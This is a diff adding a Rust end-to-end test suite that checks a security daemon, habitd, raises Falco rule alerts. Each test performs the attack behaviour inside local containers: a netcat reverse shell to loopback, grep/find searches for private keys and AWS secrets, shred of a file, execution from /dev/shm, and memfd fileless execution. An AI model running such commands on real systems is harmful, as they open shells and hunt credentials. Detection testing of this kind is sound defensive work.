@@ -1,0 +1,750 @@
+//! End-to-end tests of Falco's own stable rules — the peer file `../shared/peers/falco_rules.yaml`,
+//! which nobody here wrote — run by a real habitd (real probes, real containers): for every rule
+//! whose behaviour habitd's probes can observe, a test performs that behaviour for real (in a
+//! container or on the host, whichever the rule's condition asks for) and expects an alert named
+//! after the rule. Rules that habitd cannot observe are listed in [`NOT_OBSERVABLE`] with the
+//! reason, and [`every_peer_rule_is_tested_or_listed_as_not_observable`] checks that each of the
+//! file's rules is accounted for.
+//!
+//! The daemon runs with the peer file only (`builtin_rules = false`) and learns for ten minutes,
+//! so that every rule hit is alerted as it is (nothing is suppressed by a baseline yet).
+//! Everything stays on the machine: containers talk to themselves over loopback.
+//!
+//! Needs root, BTF, Docker, a static busybox and `cc`.
+//! The peer file's path can be overridden with `HABITD_FALCO_RULES`.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use std::collections::BTreeSet;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use common::{Daemon, require_docker, tail};
+use serde_json::Value;
+
+/// Rules with a test in this file: (rule name, test function).
+const TESTED: &[(&str, &str)] = &[
+    ("Run shell untrusted", "run_shell_untrusted"),
+    ("Terminal shell in container", "terminal_shell_in_container"),
+    (
+        "Netcat Remote Code Execution in Container",
+        "netcat_remote_code_execution_in_container",
+    ),
+    (
+        "Search Private Keys or Passwords",
+        "search_private_keys_or_passwords",
+    ),
+    ("Remove Bulk Data from Disk", "remove_bulk_data_from_disk"),
+    (
+        "Packet socket created in container",
+        "packet_socket_created_in_container",
+    ),
+    (
+        "Linux Kernel Module Injection Detected",
+        "linux_kernel_module_injection_detected",
+    ),
+    ("PTRACE attached to process", "ptrace_attached_to_process"),
+    ("PTRACE anti-debug attempt", "ptrace_anti_debug_attempt"),
+    ("Find AWS Credentials", "find_aws_credentials"),
+    ("Execution from /dev/shm", "execution_from_dev_shm"),
+    (
+        "Drop and execute new binary in container",
+        "drop_and_execute_new_binary_in_container",
+    ),
+    (
+        "Fileless execution via memfd_create",
+        "fileless_execution_via_memfd_create",
+    ),
+];
+
+/// Rules that cannot fire on habitd's events, and why. Not faked: no test pretends otherwise.
+const NOT_OBSERVABLE: &[(&str, &str)] = &[
+    (
+        "Disallowed SSH Connection Non Standard Port",
+        "needs evt.rawres of connect (the result; connects are reported at syscall entry) and fd.net/fd.ip",
+    ),
+    (
+        "Detect release_agent File Container Escapes",
+        "its open_write macro needs fd.num >= 0, the open's result, not observed (habitd's own release_agent rule covers the behaviour)",
+    ),
+    (
+        "Clear Log Activities",
+        "needs fd.num >= 0 (open result, not observed) and evt.arg.flags rendered as text (O_TRUNC); habitd gives the flags as a number",
+    ),
+    (
+        "System user interactive",
+        "needs user.name for non-root uids: habitd supplies only uid 0's name (no passwd lookup in the process's root yet)",
+    ),
+    (
+        "Read sensitive file untrusted",
+        "its open_read macro needs fd.num >= 0, the result of the open, which habitd does not observe (opens are reported at syscall entry; habitd's own `Read sensitive file` rule covers the behaviour)",
+    ),
+    (
+        "Read sensitive file trusted after startup",
+        "its open_read macro needs fd.num >= 0 (the open's result: habitd reports opens at syscall entry) and proc.duration (not supplied)",
+    ),
+    (
+        "Directory traversal monitored file read",
+        "needs fd.num >= 0 and fd.nameraw: habitd reports opens at syscall entry (no result, no descriptor) and does not keep the raw path beside the resolved one",
+    ),
+    (
+        "Create Symlink Over Sensitive Files",
+        "symlink/symlinkat are not observed by habitd's probes (no event, no evt.arg.target)",
+    ),
+    (
+        "Create Hardlink Over Sensitive Files",
+        "link/linkat are not observed by habitd's probes (no event, no evt.arg.oldpath)",
+    ),
+    (
+        "Redirect STDOUT/STDIN to Network Connection in Container",
+        "dup/dup2/dup3 are not observed by habitd's probes, nor their result (evt.rawres) or \
+         the type of the duplicated descriptor (fd.type)",
+    ),
+    (
+        "Contact K8S API Server From Container",
+        "the condition names the server by its DNS name (fd.sip.name = \
+         kubernetes.default.svc.cluster.local): habitd sees addresses, never the names of \
+         remote hosts (and no Kubernetes runs here)",
+    ),
+    (
+        "Debugfs Launched in Privileged Container",
+        "needs container.privileged, which habitd does not supply (a gap: Docker's \
+         HostConfig.Privileged), and a privileged container cannot start on these machines \
+         (their capability bounding set lacks CAP_SYS_RESOURCE: runc fails with 'unable to \
+         apply caps'), so the behaviour cannot be produced here",
+    ),
+];
+
+/// The image every container test runs (built once per test binary).
+const IMAGE: &str = "habitd-e2e/falco-peer:e2e";
+/// Its workload key, as habitd normalises it.
+const WORKLOAD: &str = "docker.io/habitd-e2e/falco-peer:e2e";
+/// What a test container runs unless told otherwise.
+const IDLE: &[&str] = &["/bin/peer_actions", "sleep", "600"];
+
+/// How long habitd may take to report the action's event (under load from other tests).
+const EVENT_WAIT: Duration = Duration::from_secs(30);
+/// How long after the event its alert may take to reach the alert file.
+const ALERT_GRACE: Duration = Duration::from_secs(4);
+
+/// Container starts are the heavy part on two cores: one at a time.
+static DOCKER_RUN: std::sync::Mutex<()> = std::sync::Mutex::new(());
+
+// ---------------------------------------------------------------------------------------------
+// The peer rules file and the daemon.
+
+fn peer_rules_path() -> PathBuf {
+    let path = std::env::var_os("HABITD_FALCO_RULES")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| {
+            PathBuf::from(concat!(
+                env!("CARGO_MANIFEST_DIR"),
+                "/../shared/peers/falco_rules.yaml"
+            ))
+        });
+    assert!(
+        path.is_file(),
+        "Falco's peer rules file {} is missing: these tests run habitd with it. Keep shared/ \
+         beside the repository (CI lays it there) or set HABITD_FALCO_RULES to the file",
+        path.display()
+    );
+    path.canonicalize().unwrap()
+}
+
+/// The names of the rules the file defines (`- rule: NAME` items), read without habitd's loader.
+fn peer_rule_names(text: &str) -> Vec<String> {
+    text.lines()
+        .filter_map(|l| l.strip_prefix("- rule:"))
+        .map(|n| n.trim().trim_matches(|c| c == '"' || c == '\'').to_string())
+        .collect()
+}
+
+/// A habitd with only the peer rules, still learning (so no rule hit is suppressed).
+fn start_daemon() -> Daemon {
+    let rules = peer_rules_path();
+    Daemon::start(&format!(
+        "rules = [{}]\nbuiltin_rules = false\nalerts_include_suppressed = true\n\
+         [learning]\nmin = \"10m\"\n",
+        serde_json::to_string(&rules.to_string_lossy()).unwrap()
+    ))
+}
+
+/// A field of an event or alert as text (alerts render some numbers as strings).
+fn text(f: &Value, key: &str) -> String {
+    match &f[key] {
+        Value::String(s) => s.clone(),
+        Value::Null => String::new(),
+        v => v.to_string(),
+    }
+}
+
+fn is_exec(f: &Value) -> bool {
+    f["evt.type"] == "execve"
+}
+
+/// Waits for habitd to report the action's event (`event`, on output fields) — it panics if
+/// habitd never sees the action — then for an alert of `rule` whose output fields match
+/// `alert`. `needs` says which Falco fields the rule's condition relies on, for the message.
+fn check_rule(
+    d: &Daemon,
+    rule: &str,
+    what: &str,
+    needs: &str,
+    event: impl Fn(&Value) -> bool,
+    alert: impl Fn(&Value) -> bool,
+) -> Result<Value, String> {
+    let ev = d.wait_event(what, EVENT_WAIT, &event);
+    let deadline = Instant::now() + ALERT_GRACE;
+    loop {
+        let alerts = d.alerts();
+        if let Some(a) = alerts
+            .iter()
+            .find(|a| a["rule"] == rule && alert(&a["output_fields"]))
+        {
+            return Ok(a.clone());
+        }
+        if Instant::now() > deadline {
+            let related: Vec<String> = alerts
+                .iter()
+                .filter(|a| alert(&a["output_fields"]))
+                .map(|a| text(a, "rule"))
+                .collect();
+            return Err(format!(
+                "Falco's rule {rule:?} did not fire on {what}.\nThe rule relies on: {needs}.\n\
+                 habitd saw the action; its event (output fields):\n{ev:#}\n\
+                 other rules that fired on it: {related:?}"
+            ));
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+fn expect_rule(
+    d: &Daemon,
+    rule: &str,
+    what: &str,
+    needs: &str,
+    event: impl Fn(&Value) -> bool,
+    alert: impl Fn(&Value) -> bool,
+) -> Value {
+    check_rule(d, rule, what, needs, event, alert).unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// Panics with every message if any check failed (so that one run reports all variants).
+fn all_ok(results: Vec<Result<Value, String>>) {
+    let errors: Vec<String> = results.into_iter().filter_map(Result::err).collect();
+    assert!(errors.is_empty(), "{}", errors.join("\n\n"));
+}
+
+// ---------------------------------------------------------------------------------------------
+// The helper program and the test image.
+
+/// tests/fixtures/peer_actions.c, compiled statically once per test binary (into cargo's
+/// scratch directory for integration tests, so that runs do not pile up copies).
+fn peer_actions_binary() -> PathBuf {
+    static BUILT: OnceLock<PathBuf> = OnceLock::new();
+    BUILT
+        .get_or_init(|| {
+            let out = Path::new(env!("CARGO_TARGET_TMPDIR")).join("peer_actions");
+            let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/peer_actions.c");
+            let status = Command::new("cc")
+                .args(["-static", "-O2", "-o"])
+                .arg(&out)
+                .arg(&src)
+                .status()
+                .expect("cc is needed to build the test helper: apt-get install gcc libc6-dev");
+            assert!(status.success(), "compiling {} failed", src.display());
+            out
+        })
+        .clone()
+}
+
+/// A local image (no registry is reachable) made from the host's static busybox, with
+/// /bin/peer_actions, a long-running server stand-in at /usr/sbin/nginx (the same helper: Falco
+/// knows trusted servers by process name), a web root with a CGI script that runs a shell,
+/// /etc/shadow and a log file. Imported again only when its inputs changed (a label records
+/// their hash), so that runs leave no dangling images behind.
+fn peer_image() -> &'static str {
+    static BUILT: OnceLock<()> = OnceLock::new();
+    BUILT.get_or_init(|| {
+        use std::hash::{Hash, Hasher};
+        require_docker();
+        let busybox = Path::new("/bin/busybox");
+        assert!(
+            busybox.exists(),
+            "/bin/busybox is missing: apt-get install busybox-static (the test image is built \
+             from it)"
+        );
+        let helper = peer_actions_binary();
+        let root = tempfile::tempdir().unwrap();
+        let files = format!(
+            "set -e; cd {root}; mkdir -p bin usr/sbin etc tmp www/cgi-bin var/log root; \
+             cp /bin/busybox bin/; \
+             for a in sh cat ls sleep nc grep find shred mount mkdir cp echo id true httpd wget; \
+             do ln -sf busybox bin/$a; done; \
+             cp {helper} bin/peer_actions; ln -s /bin/peer_actions usr/sbin/nginx; \
+             echo 'root:x:0:0:root:/root:/bin/sh' > etc/passwd; \
+             echo 'root:*:19000:0:99999:7:::' > etc/shadow; chmod 600 etc/shadow; \
+             echo hello > www/index.html; \
+             printf '#!/bin/sh\\necho Content-Type: text/plain\\necho\\n/bin/sh -c id\\n' \
+               > www/cgi-bin/status.cgi; chmod 755 www/cgi-bin/status.cgi; \
+             echo 'Nov 26 12:00:00 e2e sshd[1]: Accepted publickey for root' > var/log/auth.log; ",
+            root = root.path().display(),
+            helper = helper.display(),
+        );
+        let mut h = std::collections::hash_map::DefaultHasher::new();
+        files
+            .replace(&root.path().display().to_string(), "")
+            .hash(&mut h);
+        std::fs::read(busybox).unwrap().hash(&mut h);
+        std::fs::read(&helper).unwrap().hash(&mut h);
+        let inputs = format!("{:016x}", h.finish());
+        let label = "habitd.e2e.inputs";
+        let current = Command::new("docker")
+            .args(["image", "inspect", "-f"])
+            .arg(format!("{{{{index .Config.Labels \"{label}\"}}}}"))
+            .arg(IMAGE)
+            .output()
+            .unwrap();
+        if String::from_utf8_lossy(&current.stdout).trim() == inputs {
+            return;
+        }
+        let script = format!(
+            "{files} tar -C {root} -c . | docker import --change 'LABEL {label}={inputs}' - \
+             {IMAGE} >/dev/null",
+            root = root.path().display()
+        );
+        let out = Command::new("sh").args(["-c", &script]).output().unwrap();
+        assert!(
+            out.status.success(),
+            "building test image {IMAGE} failed: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    });
+    IMAGE
+}
+
+/// A container of the test image, removed on drop.
+struct Ctr {
+    id: String,
+}
+
+impl Ctr {
+    /// `docker run -d --rm FLAGS IMAGE CMD`, then waits until habitd attributes the container
+    /// to its image (events of a container not described yet are not matched against rules).
+    fn start(d: &Daemon, flags: &[&str], cmd: &[&str]) -> Ctr {
+        let image = peer_image();
+        let out = {
+            let _one = DOCKER_RUN.lock().unwrap_or_else(|p| p.into_inner());
+            Command::new("docker")
+                .args(["run", "-d", "--rm"])
+                .args(flags)
+                .arg(image)
+                .args(cmd)
+                .output()
+                .unwrap()
+        };
+        assert!(
+            out.status.success(),
+            "docker run {flags:?} {image} {cmd:?} failed: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let c = Ctr {
+            id: String::from_utf8_lossy(&out.stdout).trim().to_string(),
+        };
+        // An exec after the container is known to Docker carries the container id to habitd.
+        c.exec(&["true"]);
+        let id12 = c.id12().to_string();
+        d.wait_event(
+            "the test container attributed to its image",
+            EVENT_WAIT,
+            |f| f["container.id"] == id12.as_str() && f["habitd.workload"] == WORKLOAD,
+        );
+        c
+    }
+
+    fn id12(&self) -> &str {
+        &self.id[..12]
+    }
+
+    /// Whether an event's or alert's output fields are about this container.
+    fn is(&self, f: &Value) -> bool {
+        f["container.id"] == self.id12()
+    }
+
+    fn docker_exec(&self, opts: &[&str], args: &[&str]) -> Output {
+        Command::new("docker")
+            .arg("exec")
+            .args(opts)
+            .arg(&self.id)
+            .args(args)
+            .stdin(Stdio::null())
+            .output()
+            .unwrap()
+    }
+
+    fn exec(&self, args: &[&str]) -> Output {
+        self.docker_exec(&[], args)
+    }
+
+    /// Runs `args` and asserts that they succeeded.
+    fn exec_ok(&self, args: &[&str]) -> Output {
+        let out = self.exec(args);
+        assert!(
+            out.status.success(),
+            "docker exec {args:?} failed: {}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        out
+    }
+
+    /// Starts `args` in the background (`docker exec -d`).
+    fn spawn(&self, args: &[&str]) {
+        let out = self.docker_exec(&["-d"], args);
+        assert!(
+            out.status.success(),
+            "docker exec -d {args:?} failed: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+}
+
+impl Drop for Ctr {
+    fn drop(&mut self) {
+        let _ = Command::new("docker")
+            .args(["rm", "-f", &self.id])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status();
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Accounting: every rule of the file is tested or listed as not observable.
+
+#[test]
+fn every_peer_rule_is_tested_or_listed_as_not_observable() {
+    let path = peer_rules_path();
+    let names = peer_rule_names(&std::fs::read_to_string(&path).unwrap());
+    let in_file: BTreeSet<&str> = names.iter().map(String::as_str).collect();
+    assert_eq!(
+        (names.len(), in_file.len()),
+        (25, 25),
+        "{} should define 25 distinct rules: {names:#?}",
+        path.display()
+    );
+    let tested: BTreeSet<&str> = TESTED.iter().map(|(r, _)| *r).collect();
+    let not_observable: BTreeSet<&str> = NOT_OBSERVABLE.iter().map(|(r, _)| *r).collect();
+    assert_eq!(
+        tested.len(),
+        TESTED.len(),
+        "a rule is listed twice in TESTED"
+    );
+    assert!(
+        tested.is_disjoint(&not_observable),
+        "rules both tested and listed not observable: {:?}",
+        tested.intersection(&not_observable).collect::<Vec<_>>()
+    );
+    let listed: BTreeSet<&str> = tested.union(&not_observable).copied().collect();
+    assert_eq!(
+        listed,
+        in_file,
+        "rules of the file neither tested nor listed: {:?}; listed rules the file lacks: {:?}",
+        in_file.difference(&listed).collect::<Vec<_>>(),
+        listed.difference(&in_file).collect::<Vec<_>>()
+    );
+    for (rule, reason) in NOT_OBSERVABLE {
+        assert!(!reason.is_empty(), "{rule}: say why it is not observable");
+    }
+    // habitd itself loads every rule of the file.
+    let d = start_daemon();
+    let summary = format!("loaded {n} of {n} rules", n = names.len());
+    assert!(
+        d.log().contains(&summary),
+        "habitd did not report '{summary}':\n{}",
+        tail(&d.log(), 40)
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// File reads and writes.
+
+/// The other half of that rule: a server reading the file while it starts is normal
+/// (`not proc_is_new`, i.e. proc.duration <= 5 s). habitd must know the process's age for this.
+/// (While habitd supplies no fd.num the rule cannot fire at all, so this passes trivially; it
+/// guards the exclusion once opens match.)
+#[test]
+fn run_shell_untrusted() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], &["/bin/httpd", "-f", "-p", "8080", "-h", "/www"]);
+    // A request to a CGI script makes the web server's child run a shell (the RCE pattern).
+    let out = c.exec_ok(&[
+        "wget",
+        "-q",
+        "-O",
+        "-",
+        "http://127.0.0.1:8080/cgi-bin/status.cgi",
+    ]);
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("uid=0"),
+        "the CGI script did not run: {}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    let a = expect_rule(
+        &d,
+        "Run shell untrusted",
+        "busybox httpd's CGI script running /bin/sh -c id",
+        "proc.name of a shell, proc.pname, proc.aname (an ancestor named httpd), proc.cmdline",
+        |f| c.is(f) && is_exec(f) && f["proc.cmdline"] == "sh -c id",
+        |f| c.is(f) && f["proc.cmdline"] == "sh -c id",
+    );
+    let f = &a["output_fields"];
+    assert_eq!(f["proc.pname"], "status.cgi", "{a:#}");
+    assert_eq!(f["proc.aname[2]"], "httpd", "{a:#}");
+}
+
+#[test]
+fn terminal_shell_in_container() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    // `docker exec -t`, like `kubectl exec -t`: a shell with a terminal as the entry point.
+    let out = c.docker_exec(&["-t"], &["sh", "-c", "exit 0"]);
+    assert!(out.status.success(), "{out:?}");
+    let a = expect_rule(
+        &d,
+        "Terminal shell in container",
+        "`docker exec -t … sh` in a container",
+        "proc.tty != 0; proc.pname one of the runtime's (runc, containerd-shim, …)",
+        |f| c.is(f) && is_exec(f) && f["proc.cmdline"] == "sh -c exit 0",
+        |f| c.is(f) && f["proc.cmdline"] == "sh -c exit 0",
+    );
+    assert_ne!(text(&a["output_fields"], "proc.tty"), "0", "{a:#}");
+}
+
+#[test]
+fn netcat_remote_code_execution_in_container() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    // The attacker's end listens inside the same container; the reverse shell connects to it.
+    c.spawn(&["nc", "-l", "-p", "5555"]);
+    std::thread::sleep(Duration::from_millis(300));
+    c.spawn(&["nc", "127.0.0.1", "5555", "-e", "/bin/sh"]);
+    expect_rule(
+        &d,
+        "Netcat Remote Code Execution in Container",
+        "`nc 127.0.0.1 5555 -e /bin/sh` in a container",
+        "proc.name, proc.cmdline",
+        |f| c.is(f) && is_exec(f) && f["proc.cmdline"] == "nc 127.0.0.1 5555 -e /bin/sh",
+        |f| c.is(f) && f["proc.cmdline"] == "nc 127.0.0.1 5555 -e /bin/sh",
+    );
+}
+
+#[test]
+fn search_private_keys_or_passwords() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    c.exec(&["find", "/root", "/etc", "-name", "id_rsa"]);
+    c.exec(&["grep", "-rl", "BEGIN RSA PRIVATE KEY", "/etc", "/root"]);
+    let rule = "Search Private Keys or Passwords";
+    let needs = "proc.name, proc.args";
+    all_ok(vec![
+        check_rule(
+            &d,
+            rule,
+            "`find /root /etc -name id_rsa`",
+            needs,
+            |f| c.is(f) && is_exec(f) && f["proc.name"] == "find",
+            |f| c.is(f) && f["proc.name"] == "find",
+        ),
+        check_rule(
+            &d,
+            rule,
+            "`grep -rl 'BEGIN RSA PRIVATE KEY' /etc /root`",
+            needs,
+            |f| c.is(f) && is_exec(f) && f["proc.name"] == "grep",
+            |f| c.is(f) && f["proc.name"] == "grep",
+        ),
+    ]);
+}
+
+#[test]
+fn find_aws_credentials() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    c.exec(&["grep", "-ri", "aws_secret_access_key", "/root", "/etc"]);
+    expect_rule(
+        &d,
+        "Find AWS Credentials",
+        "`grep -ri aws_secret_access_key /root /etc` in a container",
+        "proc.name, proc.args",
+        |f| c.is(f) && is_exec(f) && f["proc.name"] == "grep",
+        |f| c.is(f) && f["proc.name"] == "grep",
+    );
+}
+
+#[test]
+fn remove_bulk_data_from_disk() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    c.exec_ok(&["sh", "-c", "echo important > /tmp/data.db"]);
+    c.exec_ok(&["shred", "-u", "/tmp/data.db"]);
+    expect_rule(
+        &d,
+        "Remove Bulk Data from Disk",
+        "`shred -u /tmp/data.db` in a container",
+        "proc.name",
+        |f| c.is(f) && is_exec(f) && f["proc.name"] == "shred",
+        |f| c.is(f) && f["proc.name"] == "shred",
+    );
+}
+
+#[test]
+fn execution_from_dev_shm() {
+    let d = start_daemon();
+    // In a container (Docker mounts /dev/shm noexec, so a script is run by a shell) ...
+    let c = Ctr::start(&d, &[], IDLE);
+    c.exec_ok(&["sh", "-c", "echo 'echo updated' > /dev/shm/update.sh"]);
+    c.exec_ok(&["sh", "/dev/shm/update.sh"]);
+    let rule = "Execution from /dev/shm";
+    let in_container = check_rule(
+        &d,
+        rule,
+        "`sh /dev/shm/update.sh` in a container",
+        "proc.name of a shell and proc.args starting with /dev/shm",
+        |f| c.is(f) && is_exec(f) && f["proc.cmdline"] == "sh /dev/shm/update.sh",
+        |f| c.is(f) && f["proc.cmdline"] == "sh /dev/shm/update.sh",
+    );
+    // ... and on the host, a binary copied to /dev/shm and executed by its path (a short NAME:
+    // proc.name is at most 15 characters). (`./NAME` run from /dev/shm needs proc.cwd, which
+    // habitd does not supply yet.)
+    let name = format!("shm-{}", std::process::id());
+    let path = format!("/dev/shm/{name}");
+    std::fs::copy(peer_actions_binary(), &path).unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let by_path = Command::new(&path).arg("true").status();
+    let _ = std::fs::remove_file(&path);
+    assert!(by_path.unwrap().success(), "running {path} failed");
+    let on_host = |args: &'static str, what: String, needs: &str| {
+        let mine = |f: &Value| f["proc.name"] == name.as_str() && f["proc.args"] == args;
+        check_rule(
+            &d,
+            rule,
+            &what,
+            needs,
+            |f| is_exec(f) && mine(f),
+            |f| f["container.id"] == "host" && mine(f),
+        )
+    };
+    all_ok(vec![
+        in_container,
+        on_host(
+            "true",
+            format!("`{path} true` on the host"),
+            "proc.exe (argv[0]) starting with /dev/shm/",
+        ),
+    ]);
+}
+
+#[test]
+fn drop_and_execute_new_binary_in_container() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    c.exec_ok(&["cp", "/bin/peer_actions", "/tmp/dropped"]);
+    c.exec_ok(&["/tmp/dropped", "true"]);
+    expect_rule(
+        &d,
+        "Drop and execute new binary in container",
+        "a binary copied to /tmp then executed in a container",
+        "proc.is_exe_upper_layer",
+        |f| c.is(f) && is_exec(f) && f["proc.exepath"] == "/tmp/dropped",
+        |f| c.is(f) && f["proc.exepath"] == "/tmp/dropped",
+    );
+}
+
+#[test]
+fn fileless_execution_via_memfd_create() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    // A dropper (run by a shell) copies a program into a memfd and executes it from there.
+    c.exec_ok(&["sh", "-c", "/bin/peer_actions memfd-exec; true"]);
+    expect_rule(
+        &d,
+        "Fileless execution via memfd_create",
+        "fexecve of a memfd in a container",
+        "proc.is_exe_from_memfd; proc.name/proc.pname not runc",
+        |f| c.is(f) && is_exec(f) && f["proc.args"] == "true",
+        |f| c.is(f) && f["proc.args"] == "true",
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Privileged operations and sockets.
+
+#[test]
+fn packet_socket_created_in_container() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    c.exec_ok(&["peer_actions", "packet-socket"]);
+    expect_rule(
+        &d,
+        "Packet socket created in container",
+        "socket(AF_PACKET, SOCK_RAW) in a container",
+        "evt.type=socket, evt.arg.domain",
+        |f| c.is(f) && f["evt.type"] == "socket",
+        |f| c.is(f) && f["evt.type"] == "socket",
+    );
+}
+
+#[test]
+fn linux_kernel_module_injection_detected() {
+    let d = start_daemon();
+    // CAP_SYS_MODULE (and with it, Docker's seccomp profile lets init_module through). The
+    // "module" is a few bytes of text: the kernel refuses it, nothing is loaded.
+    let c = Ctr::start(&d, &["--cap-add", "SYS_MODULE"], IDLE);
+    c.exec_ok(&["peer_actions", "module-load"]);
+    let module_load =
+        |f: &Value| c.is(f) && (f["evt.type"] == "init_module" || f["evt.type"] == "finit_module");
+    expect_rule(
+        &d,
+        "Linux Kernel Module Injection Detected",
+        "init_module/finit_module in a container with CAP_SYS_MODULE",
+        "evt.type, thread.cap_effective",
+        module_load,
+        module_load,
+    );
+}
+
+#[test]
+fn ptrace_attached_to_process() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    c.exec_ok(&["peer_actions", "ptrace-attach"]);
+    expect_rule(
+        &d,
+        "PTRACE attached to process",
+        "PTRACE_ATTACH to another process in a container",
+        "evt.type=ptrace, evt.arg.request",
+        |f| c.is(f) && f["evt.type"] == "ptrace" && f["evt.arg.request"] == 16,
+        |f| c.is(f) && f["evt.type"] == "ptrace",
+    );
+}
+
+#[test]
+fn ptrace_anti_debug_attempt() {
+    let d = start_daemon();
+    let c = Ctr::start(&d, &[], IDLE);
+    c.exec_ok(&["peer_actions", "ptrace-traceme"]);
+    expect_rule(
+        &d,
+        "PTRACE anti-debug attempt",
+        "PTRACE_TRACEME in a container",
+        "evt.type=ptrace, evt.arg.request",
+        |f| c.is(f) && f["evt.type"] == "ptrace" && f["evt.arg.request"] == 0,
+        |f| c.is(f) && f["evt.type"] == "ptrace",
+    );
+}
